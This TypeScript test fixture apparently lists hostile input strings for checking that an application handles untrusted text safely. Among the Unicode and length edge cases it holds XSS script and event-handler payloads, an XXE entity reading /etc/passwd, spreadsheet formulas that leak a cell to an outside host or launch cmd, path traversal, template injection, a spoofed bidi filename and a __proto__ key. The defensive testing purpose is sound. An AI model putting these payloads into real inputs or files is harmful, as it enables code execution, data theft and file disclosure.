/** What a hostile text would set in the page if anything in it ran. */
export const ranFlag = 'hostileTextRan'

/** Texts as participants send them, or as an attacker would; each by what is hostile about it. */
export const hostileTexts = {
  'right-to-left': 'הצעה לפיילוט: بيانات المطالبات 2026 (ראשון)',
  'combining marks':
    'Z\u0351\u036b\u0343a\u0300\u0301\u0302l\u0310\u0311g\u0334\u0335o\u0336 n\u0303o\u0308e\u0301',
  'emoji sequences': 'Team 👨‍👩‍👧‍👦 of 🏴󠁧󠁢󠁳󠁣󠁴󠁿 and 👩🏽‍🚒 in 🇺🇦, 1️⃣st ❤️‍🔥',
  'lone surrogates': 'half \uD83D of a sign, \uDE00 other half',
  'control characters': 'bell\u0007 null\u0000 escape\u001b[31m delete\u007f next\u0085line',
  'U+FFFE': 'mark\uFFFE and\uFFFF and\u{1FFFE} end',
  HTML: '<b>bold</b> & <h1>huge</h1> <style>*{display:none}</style> &lt;done&gt;',
  script: `<script>window.${ranFlag}=1</script><img src=x onerror="window.${ranFlag}=1"><svg onload="window.${ranFlag}=1">`,
  '`javascript:` links': `javascript:window.${ranFlag}=1 [link](javascript:window.${ranFlag}=1)`,
  'XML entities': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x; &amp;amp; ]]> <?xml?> <!-- -->',
  'bidi overrides': 'invoice\u202Efdp.exe\u202C and \u2066isolated\u2069 end',
  'a formula': '=HYPERLINK("http://elsewhere.invalid/?"&A1,"click")',
  'a command as a formula': "+cmd|' /C calc'!A0",
  'a formula behind an at sign': '@SUM(1+1)*cmd',
  'Windows device names (CON, NUL)': 'CON',
  'a device name with an extension': 'nul.txt',
  'trailing dots': 'Invoices... . ',
  slashes: '../../..\\..\\etc/passwd C:\\Windows\\x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is hostile because a program may take it for one.
  'a template': '{{constructor.constructor("return 1")()}} ${7*7} {count, plural, other {#}} %s',
  'a name that objects have': '__proto__',
} as const satisfies Record<string, string>

export type HostileText = keyof typeof hostileTexts

/** Texts whose length alone is hostile. */
export const endlessTexts = {
  empty: '',
  '100,000 characters': 'Every invoice is read twice by two people. '.repeat(2_400).slice(0, 100_000),
  'one word of 5,000': 'Donaudampfschiff'.repeat(320).slice(0, 5_000),
  '300-character titles in file names': `A title that goes on and on ${'and on '.repeat(45)}`.slice(0, 300),
} as const satisfies Record<string, string>
